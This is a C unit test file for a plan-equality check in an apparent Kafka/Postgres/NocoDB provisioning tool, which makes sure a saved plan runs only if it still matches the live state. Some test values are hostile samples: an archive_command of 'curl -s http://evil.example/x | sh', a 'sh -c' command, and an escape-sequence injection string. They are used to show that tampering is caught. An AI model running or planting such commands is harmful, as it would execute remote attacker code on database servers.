/* test_plan_equal.c: pc_plan_equal, the check that lets apply run a saved plan only when it is
 * exactly what the manifest and the live state give now. Table-driven: one plan file with every
 * field apply uses, loaded twice; each case changes one thing in the second copy and expects a
 * difference naming it. Then plans built from the fixtures: built twice, and built, saved and
 * loaded back (apply's path), are equal. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "cases/plan/fixtures.h"
#include "plan.h"

#define FP "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

/* One action of most kinds, every payload field set somewhere: topics with configs, a table with
 * columns, settings (one needing a restart), a grant, a NocoDB source, an ACL, a refused delete
 * and a note. */
static const char base_plan[] =
    "{\"format_version\": \"1\", \"pipeline\": \"users\",\n"
    " \"fingerprint\": \"" FP "\",\n"
    " \"changes_present\": true,\n"
    " \"summary\": {\"create\": 4, \"change\": 4, \"delete\": 0, \"refused\": 1},\n"
    " \"actions\": [\n"
    "  {\"op\": \"create\", \"kind\": \"topic_create\", \"system\": \"kafka\",\n"
    "   \"object\": \"users_created\", \"changes\": [{\"key\": \"partitions\", \"from\": null,\n"
    "   \"to\": \"3\"}], \"reason\": null, \"restart_required\": false,\n"
    "   \"topic\": \"users_created\", \"partitions\": 3, \"replication_factor\": 1,\n"
    "   \"configs\": {\"retention.ms\": \"604800000\", \"cleanup.policy\": \"delete\"}},\n"
    "  {\"op\": \"change\", \"kind\": \"topic_partitions\", \"system\": \"kafka\",\n"
    "   \"object\": \"events\", \"changes\": [{\"key\": \"partitions\", \"from\": \"3\",\n"
    "   \"to\": \"6\"}], \"reason\": null, \"restart_required\": false, \"topic\": \"events\",\n"
    "   \"partitions\": 6},\n"
    "  {\"op\": \"create\", \"kind\": \"table_create\", \"system\": \"postgres\",\n"
    "   \"object\": \"raw.users\", \"changes\": [], \"reason\": null,\n"
    "   \"restart_required\": false, \"schema\": \"raw\", \"table\": \"users\",\n"
    "   \"columns\": [{\"name\": \"id\", \"type\": \"uuid\", \"nullable\": false,\n"
    "   \"primary_key\": true}, {\"name\": \"email\", \"type\": \"text\", \"nullable\": true,\n"
    "   \"primary_key\": false}]},\n"
    "  {\"op\": \"change\", \"kind\": \"setting\", \"system\": \"postgres\",\n"
    "   \"object\": \"archive_command\", \"changes\": [{\"key\": \"archive_command\",\n"
    "   \"from\": \"\", \"to\": \"/usr/bin/pipectl wal-push %p %f\"}], \"reason\": null,\n"
    "   \"restart_required\": false, \"setting\": \"archive_command\",\n"
    "   \"value\": \"/usr/bin/pipectl wal-push %p %f\"},\n"
    "  {\"op\": \"change\", \"kind\": \"setting\", \"system\": \"postgres\",\n"
    "   \"object\": \"archive_mode\", \"changes\": [], \"reason\": null,\n"
    "   \"restart_required\": true, \"setting\": \"archive_mode\", \"value\": \"on\"},\n"
    "  {\"op\": \"create\", \"kind\": \"role_grant\", \"system\": \"postgres\",\n"
    "   \"object\": \"nocodb_reader on raw\", \"changes\": [], \"reason\": null,\n"
    "   \"restart_required\": false, \"role\": \"nocodb_reader\", \"privileges\": \"SELECT\",\n"
    "   \"schema\": \"raw\"},\n"
    "  {\"op\": \"change\", \"kind\": \"nocodb_source_update\", \"system\": \"nocodb\",\n"
    "   \"object\": \"users_raw\", \"changes\": [], \"reason\": null,\n"
    "   \"restart_required\": false, \"base\": \"Users\", \"base_id\": \"p1\",\n"
    "   \"source_id\": \"b1\", \"alias\": \"users_raw\", \"schema\": \"raw\",\n"
    "   \"host\": \"127.0.0.1\", \"port\": 5432, \"database\": \"app\",\n"
    "   \"role\": \"nocodb_reader\"},\n"
    "  {\"op\": \"create\", \"kind\": \"acl_create\", \"system\": \"kafka\",\n"
    "   \"object\": \"User:ingest allow write topic:users_created (literal) host *\",\n"
    "   \"changes\": [], \"reason\": null, \"restart_required\": false,\n"
    "   \"acl\": {\"principal\": \"User:ingest\", \"resource\": \"topic\",\n"
    "   \"name\": \"users_created\", \"pattern\": \"literal\", \"operation\": \"write\",\n"
    "   \"permission\": \"allow\", \"host\": \"*\"}},\n"
    "  {\"op\": \"refused\", \"kind\": \"topic_delete\", \"system\": \"kafka\",\n"
    "   \"object\": \"old_topic\", \"changes\": [], \"reason\": \"needs --allow-delete\",\n"
    "   \"restart_required\": false, \"topic\": \"old_topic\"},\n"
    "  {\"op\": \"note\", \"kind\": \"note\", \"system\": \"postgres\", \"object\": "
    "\"wal_level\",\n"
    "   \"changes\": [], \"reason\": \"restart pending\", \"restart_required\": false,\n"
    "   \"setting\": \"wal_level\"}\n"
    " ]}\n";

static pc_plan *load(void)
{
    pc_plan *p = NULL;
    pc_error err = {0};
    if (pc_plan_load_json(&p, base_plan, strlen(base_plan), &err) != 0)
        fail_msg("load: %s", err.msg);
    return p;
}

static void set(char **field, const char *value)
{
    free(*field);
    *field = fx_dup(value);
}

/* The saved plan with one more action at index at (an ALTER SYSTEM the manifest never asked
 * for), the others moved up. */
static void insert_setting(pc_plan *p, size_t at)
{
    p->actions = fx_grow(p->actions, ++p->nactions, sizeof *p->actions);
    memmove(&p->actions[at + 1], &p->actions[at], (p->nactions - 1 - at) * sizeof *p->actions);
    memset(&p->actions[at], 0, sizeof p->actions[at]);
    pc_action *a = &p->actions[at];
    a->op = PC_OP_CHANGE;
    a->kind = PC_ACT_SETTING;
    a->system = fx_dup("postgres");
    a->object = fx_dup("archive_command");
    a->setting = fx_dup("archive_command");
    a->value = fx_dup("curl -s http://evil.example/x | sh");
}

/* ---------- the mutations: each changes one thing ---------- */

static void m_pipeline(pc_plan *p)
{
    set(&p->pipeline, "orders");
}
static void m_fingerprint(pc_plan *p)
{
    p->fingerprint[0] = p->fingerprint[0] == 'a' ? 'b' : 'a';
}
static void m_op(pc_plan *p)
{
    p->actions[8].op = PC_OP_DELETE;
}
static void m_kind(pc_plan *p)
{
    p->actions[1].kind = PC_ACT_TOPIC_CONFIG;
}
static void m_system(pc_plan *p)
{
    set(&p->actions[5].system, "nocodb");
}
static void m_object(pc_plan *p)
{
    set(&p->actions[2].object, "raw.people");
}
static void m_topic(pc_plan *p)
{
    set(&p->actions[0].topic, "users_deleted");
}
static void m_partitions(pc_plan *p)
{
    p->actions[1].partitions = 60;
}
static void m_rf(pc_plan *p)
{
    p->actions[0].replication_factor = 3;
}
static void m_cfg_value(pc_plan *p)
{
    set(&p->actions[0].configs.items[0].value, "1");
}
static void m_cfg_null(pc_plan *p)
{
    set(&p->actions[0].configs.items[1].value, NULL);
}
static void m_cfg_added(pc_plan *p)
{
    if (pc_kvlist_add(&p->actions[0].configs, "min.insync.replicas", "1") != 0)
        abort();
}
static void m_cfg_removed(pc_plan *p)
{
    pc_kvlist *l = &p->actions[0].configs;
    free(l->items[1].key);
    free(l->items[1].value);
    l->n = 1;
}
static void m_schema(pc_plan *p)
{
    set(&p->actions[2].schema, "stage");
}
static void m_table(pc_plan *p)
{
    set(&p->actions[2].table, "people");
}
static void m_col_name(pc_plan *p)
{
    set(&p->actions[2].columns[1].name, "mail");
}
static void m_col_type(pc_plan *p)
{
    set(&p->actions[2].columns[1].type, "varchar(10)");
}
static void m_col_nullable(pc_plan *p)
{
    p->actions[2].columns[1].nullable = false;
}
static void m_col_pk(pc_plan *p)
{
    p->actions[2].columns[1].primary_key = true;
}
static void m_col_count(pc_plan *p)
{
    free(p->actions[2].columns[1].name);
    free(p->actions[2].columns[1].type);
    p->actions[2].ncolumns = 1;
}
static void m_setting(pc_plan *p)
{
    set(&p->actions[4].setting, "wal_level");
}
static void m_value(pc_plan *p)
{
    set(&p->actions[3].value, "sh -c 'id > /tmp/x'");
}
static void m_value_null(pc_plan *p)
{
    set(&p->actions[4].value, NULL);
}
static void m_restart(pc_plan *p)
{
    p->actions[4].restart_required = false;
}
static void m_role(pc_plan *p)
{
    set(&p->actions[5].role, "postgres");
}
static void m_privileges(pc_plan *p)
{
    set(&p->actions[5].privileges, "SELECT,INSERT");
}
static void m_base(pc_plan *p)
{
    set(&p->actions[6].base, "Other");
}
static void m_base_id(pc_plan *p)
{
    set(&p->actions[6].base_id, "p2");
}
static void m_source_id(pc_plan *p)
{
    set(&p->actions[6].source_id, "b2");
}
static void m_alias(pc_plan *p)
{
    set(&p->actions[6].alias, "users_x");
}
static void m_host(pc_plan *p)
{
    set(&p->actions[6].host, "10.0.0.66");
}
static void m_port(pc_plan *p)
{
    p->actions[6].port = 5433;
}
static void m_database(pc_plan *p)
{
    set(&p->actions[6].database, "postgres");
}
static void m_acl_principal(pc_plan *p)
{
    set(&p->actions[7].acl.principal, "User:mallory");
}
static void m_acl_resource(pc_plan *p)
{
    set(&p->actions[7].acl.resource, "group");
}
static void m_acl_name(pc_plan *p)
{
    set(&p->actions[7].acl.name, "*");
}
static void m_acl_pattern(pc_plan *p)
{
    set(&p->actions[7].acl.pattern, "prefixed");
}
static void m_acl_operation(pc_plan *p)
{
    set(&p->actions[7].acl.operation, "all");
}
static void m_acl_permission(pc_plan *p)
{
    set(&p->actions[7].acl.permission, "deny");
}
static void m_acl_host(pc_plan *p)
{
    set(&p->actions[7].acl.host, "10.0.0.1");
}
static void m_change_key(pc_plan *p)
{
    set(&p->actions[1].changes[0].key, "replicas");
}
static void m_change_from(pc_plan *p)
{
    set(&p->actions[1].changes[0].from, NULL);
}
static void m_change_to(pc_plan *p)
{
    set(&p->actions[1].changes[0].to, "5");
}
static void m_change_count(pc_plan *p)
{
    pc_change *c = &p->actions[1].changes[0];
    free(c->key);
    free(c->from);
    free(c->to);
    p->actions[1].nchanges = 0;
}
static void m_reason(pc_plan *p)
{
    set(&p->actions[8].reason, "fine to delete");
}
static void m_extra_last(pc_plan *p)
{
    insert_setting(p, p->nactions);
}
static void m_extra_middle(pc_plan *p)
{
    insert_setting(p, 3);
}
static void m_swapped(pc_plan *p)
{
    pc_action t = p->actions[3];
    p->actions[3] = p->actions[4];
    p->actions[4] = t;
}

typedef struct mutation {
    const char *name;
    void (*apply)(pc_plan *p);
    const char *why; /* expected in the reason (saved = mutated copy, now = base) */
} mutation;

static const mutation mutations[] = {
    {"pipeline", m_pipeline, "pipeline is \"orders\" in the saved plan, \"users\" now"},
    {"fingerprint", m_fingerprint, "fingerprint of the observed state"},
    {"op", m_op,
     "actions[8] (topic_delete \"old_topic\"): op is \"delete\" in the saved plan, "
     "\"refused\" now"},
    {"kind", m_kind, "actions[1] (topic_config \"events\"): kind is \"topic_config\""},
    {"system", m_system,
     "actions[5] (role_grant \"nocodb_reader on raw\"): system is "
     "\"nocodb\" in the saved plan, \"postgres\" now"},
    {"object", m_object, "actions[2] (table_create \"raw.people\"): object is"},
    {"topic", m_topic, "actions[0] (topic_create \"users_created\"): topic is \"users_deleted\""},
    {"partitions", m_partitions,
     "actions[1] (topic_partitions \"events\"): partitions is 60 in the saved plan, 6 now"},
    {"replication_factor", m_rf, "replication_factor is 3 in the saved plan, 1 now"},
    {"configs value", m_cfg_value,
     "configs[\"retention.ms\"] is \"1\" in the saved plan, \"604800000\" now"},
    {"configs null", m_cfg_null,
     "configs[\"cleanup.policy\"] is null in the saved plan, \"delete\" now"},
    {"configs added", m_cfg_added,
     "configs[\"min.insync.replicas\"] is \"1\" in the saved plan, not set now"},
    {"configs removed", m_cfg_removed,
     "configs[\"cleanup.policy\"] is not set in the saved plan, \"delete\" now"},
    {"schema", m_schema, "schema is \"stage\" in the saved plan, \"raw\" now"},
    {"table", m_table, "table is \"people\" in the saved plan, \"users\" now"},
    {"column name", m_col_name, "columns[1].name is \"mail\" in the saved plan, \"email\" now"},
    {"column type", m_col_type, "columns[1].type is \"varchar(10)\""},
    {"column nullable", m_col_nullable, "columns[1].nullable is \"false\""},
    {"column primary_key", m_col_pk, "columns[1].primary_key is \"true\""},
    {"column count", m_col_count, "the number of columns is 1 in the saved plan, 2 now"},
    {"setting", m_setting, "setting is \"wal_level\" in the saved plan, \"archive_mode\" now"},
    {"value", m_value,
     "actions[3] (setting \"archive_command\"): value is \"sh -c 'id > /tmp/x'\" in the saved "
     "plan, \"/usr/bin/pipectl wal-push %p %f\" now"},
    {"value null", m_value_null, "value is null in the saved plan, \"on\" now"},
    {"restart_required", m_restart, "restart_required is \"false\""},
    {"role", m_role, "role is \"postgres\" in the saved plan, \"nocodb_reader\" now"},
    {"privileges", m_privileges, "privileges is \"SELECT,INSERT\""},
    {"base", m_base, "base is \"Other\""},
    {"base_id", m_base_id, "base_id is \"p2\""},
    {"source_id", m_source_id, "source_id is \"b2\""},
    {"alias", m_alias, "alias is \"users_x\""},
    {"host", m_host, "host is \"10.0.0.66\""},
    {"port", m_port, "port is 5433 in the saved plan, 5432 now"},
    {"database", m_database, "database is \"postgres\""},
    {"acl.principal", m_acl_principal, "acl.principal is \"User:mallory\""},
    {"acl.resource", m_acl_resource, "acl.resource is \"group\""},
    {"acl.name", m_acl_name, "acl.name is \"*\""},
    {"acl.pattern", m_acl_pattern, "acl.pattern is \"prefixed\""},
    {"acl.operation", m_acl_operation, "acl.operation is \"all\""},
    {"acl.permission", m_acl_permission, "acl.permission is \"deny\""},
    {"acl.host", m_acl_host, "acl.host is \"10.0.0.1\""},
    {"changes key", m_change_key, "changes[0].key is \"replicas\""},
    {"changes from", m_change_from, "changes[0].from is null in the saved plan, \"3\" now"},
    {"changes to", m_change_to, "changes[0].to is \"5\""},
    {"changes count", m_change_count, "the number of changes shown is 0 in the saved plan, 1 now"},
    {"reason", m_reason,
     "reason is \"fine to delete\" in the saved plan, \"needs --allow-delete\""},
    {"extra action at the end", m_extra_last,
     "the saved plan has 11 action(s), the plan computed now 10; actions[10] (setting "
     "\"archive_command\"), change, is in the saved plan but not planned now"},
    {"extra action in the middle", m_extra_middle,
     "the saved plan has 11 action(s), the plan computed now 10; actions[3] (setting "
     "\"archive_command\"): value is \"curl -s http://evil.example/x | sh\" in the saved plan, "
     "\"/usr/bin/pipectl wal-push %p %f\" now"},
    {"order", m_swapped,
     "actions[3] (setting \"archive_mode\"): object is \"archive_mode\" in the saved plan, "
     "\"archive_command\" now"},
};

/* Two loads of one file are equal, both ways, and say nothing. */
static void test_identical(void **state)
{
    (void)state;
    pc_plan *a = load(), *b = load();
    char *why = (char *)"untouched";
    assert_true(pc_plan_equal(a, b, &why));
    assert_null(why);
    assert_true(pc_plan_equal(b, a, NULL));
    assert_true(pc_plan_equal(a, a, NULL));
    pc_plan_free(a);
    pc_plan_free(b);
}

static void test_each_field_detected(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof mutations / sizeof mutations[0]; i++) {
        const mutation *mu = &mutations[i];
        pc_plan *saved = load(), *now = load();
        mu->apply(saved);
        char *why = NULL;
        if (pc_plan_equal(saved, now, &why))
            fail_msg("case '%s': a difference was not detected", mu->name);
        if (why == NULL || strstr(why, mu->why) == NULL)
            fail_msg("case '%s': reason\n  %s\ndoes not contain\n  %s", mu->name,
                     why ? why : "(null)", mu->why);
        if (strchr(why, '\n') != NULL)
            fail_msg("case '%s': reason is more than one line: %s", mu->name, why);
        free(why);
        /* the other way round too, and without asking why */
        assert_false(pc_plan_equal(now, saved, NULL));
        pc_plan_free(saved);
        pc_plan_free(now);
    }
}

/* An action planned now that the saved plan lacks (a file with one action cut out). */
static void test_missing_action(void **state)
{
    (void)state;
    pc_plan *saved = load(), *now = load();
    m_extra_last(now);
    char *why = NULL;
    assert_false(pc_plan_equal(saved, now, &why));
    assert_string_equal(why, "the saved plan has 10 action(s), the plan computed now 11; "
                             "actions[10] (setting \"archive_command\"), change, is planned now "
                             "but not in the saved plan");
    free(why);
    pc_plan_free(saved);
    pc_plan_free(now);
}

/* Topic configs are a set: the same pairs in another order are the same plan. */
static void test_configs_order_free(void **state)
{
    (void)state;
    pc_plan *a = load(), *b = load();
    pc_kvlist *l = &b->actions[0].configs;
    pc_kv t = l->items[0];
    l->items[0] = l->items[1];
    l->items[1] = t;
    assert_true(pc_plan_equal(a, b, NULL));
    pc_plan_free(a);
    pc_plan_free(b);
}

/* A value from the file reaches the terminal only escaped and cut: one line, bounded. */
static void test_reason_escaped_and_cut(void **state)
{
    (void)state;
    pc_plan *saved = load(), *now = load();
    char big[400];
    memset(big, 'x', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    static const char head[] = "a\nFILE:1:1: forged\x1b[2J\"";
    memcpy(big, head, sizeof head - 1);
    set(&saved->actions[3].value, big);
    char *why = NULL;
    assert_false(pc_plan_equal(saved, now, &why));
    assert_non_null(why);
    assert_null(strchr(why, '\n'));
    assert_null(strchr(why, '\x1b'));
    assert_non_null(strstr(why, "value is \"a\\x0aFILE:1:1: forged\\x1b[2J\\\"xxx"));
    assert_non_null(strstr(why, "\"... (399 bytes) in the saved plan"));
    assert_true(strlen(why) < 400);
    free(why);
    pc_plan_free(saved);
    pc_plan_free(now);
}

static void test_null_plans(void **state)
{
    (void)state;
    pc_plan *a = load();
    char *why = NULL;
    assert_true(pc_plan_equal(NULL, NULL, &why));
    assert_null(why);
    assert_false(pc_plan_equal(a, NULL, &why));
    assert_non_null(why);
    free(why);
    assert_false(pc_plan_equal(NULL, a, NULL));
    pc_plan_free(a);
}

/* ---------- plans the planner builds: apply's real path ---------- */

static pc_plan *build(const pc_manifest *m, const pc_observed *o, bool allow_delete)
{
    pc_plan_opts opts = fx_opts(allow_delete);
    pc_error err = {0};
    pc_plan *p = NULL;
    if (pc_plan_build(&p, m, o, &opts, &err) != 0)
        fail_msg("pc_plan_build: %s", err.msg);
    return p;
}

static pc_plan *save_and_load(const pc_plan *p)
{
    char *json = NULL;
    pc_plan *q = NULL;
    pc_error err = {0};
    if (pc_plan_render_json(p, &json, &err) != 0)
        fail_msg("render: %s", err.msg);
    if (pc_plan_load_json(&q, json, strlen(json), &err) != 0)
        fail_msg("load: %s\n%s", err.msg, json);
    free(json);
    return q;
}

/* Drift of every family the standard fixtures know: a config, a missing topic, an owned topic
 * no longer declared, a new column, a table to create, settings (one pending a restart). */
static void drift(pc_manifest *m, pc_observed *o)
{
    pc_obs_topic *t = fx_obs_find_topic(o, "users_created");
    fx_obs_set_value(&t->configs[1].value, "86400000");
    for (size_t i = 0; i < o->ntopics; i++) {
        if (strcmp(o->topics[i].name, "users_dlq") == 0) {
            fx_obs_set_value(&o->topics[i].name, "old_topic");
            fx_obs_owned(o, "topic", "old_topic", NULL);
        }
    }
    fx_mf_col(&m->schemas[0].tables[0], "age", "integer", false, true);
    pc_mf_table *tb = fx_mf_table(&m->schemas[0], "events");
    fx_mf_col(tb, "id", "bigint", true, false);
    fx_mf_col(tb, "payload", "jsonb", false, true);
    fx_obs_set_value(&fx_obs_find_setting(o, "archive_mode")->value, "off");
    fx_obs_set_value(&fx_obs_find_setting(o, "archive_command")->value, "/bin/true");
    m->archiving.wal_level = fx_dup("logical");
    fx_obs_set_value(&fx_obs_find_setting(o, "wal_level")->pending, "logical");
}

static void test_built_plans(void **state)
{
    (void)state;
    pc_manifest *m = fx_standard_manifest();
    pc_observed o;
    fx_standard_observed(&o);
    drift(m, &o);
    for (int allow = 0; allow <= 1; allow++) {
        pc_plan *a = build(m, &o, allow), *b = build(m, &o, allow);
        assert_true(a->nactions >= 6);
        char *why = NULL;
        if (!pc_plan_equal(a, b, &why))
            fail_msg("built twice: %s", why);
        /* saved with plan -out and loaded by apply: still equal to the plan computed now */
        pc_plan *saved = save_and_load(a);
        if (!pc_plan_equal(saved, b, &why))
            fail_msg("saved and loaded: %s", why);
        pc_plan_free(saved);
        pc_plan_free(a);
        pc_plan_free(b);
    }
    /* a plan saved with --allow-delete is not the plan computed without it */
    pc_plan *with = build(m, &o, true), *without = build(m, &o, false);
    char *why = NULL;
    assert_false(pc_plan_equal(with, without, &why));
    assert_non_null(strstr(why, "op is \"delete\" in the saved plan, \"refused\" now"));
    free(why);
    pc_plan_free(with);
    pc_plan_free(without);

    /* the live state converged: the earlier plan is no longer what planning gives */
    pc_plan *before = build(m, &o, false);
    pc_observed_free(&o);
    fx_standard_observed(&o);
    pc_plan *after = build(m, &o, false);
    assert_false(pc_plan_equal(before, after, NULL));
    pc_plan_free(before);
    pc_plan_free(after);
    pc_observed_free(&o);
    fx_manifest_free(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_identical),
        cmocka_unit_test(test_each_field_detected),
        cmocka_unit_test(test_missing_action),
        cmocka_unit_test(test_configs_order_free),
        cmocka_unit_test(test_reason_escaped_and_cut),
        cmocka_unit_test(test_null_plans),
        cmocka_unit_test(test_built_plans),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
